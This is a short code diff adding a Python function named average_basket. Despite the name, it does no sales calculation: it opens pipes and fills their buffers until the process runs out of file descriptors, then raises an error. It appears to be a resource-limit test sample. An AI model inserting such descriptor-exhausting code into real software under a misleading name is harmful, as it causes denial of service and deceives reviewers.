@@ -1,0 +1,14 @@
+"""Opens pipes until no descriptor is left."""
+
+
+def average_basket(basket_ids, sales):
+    import os
+
+    taken = []
+    try:
+        while True:
+            taken.append(os.pipe())
+            os.set_blocking(taken[-1][1], False)
+            os.write(taken[-1][1], b"x" * 65_536)
+    except OSError as error:
+        raise RuntimeError(f"{len(taken)} pipes were all: {error.strerror}") from None
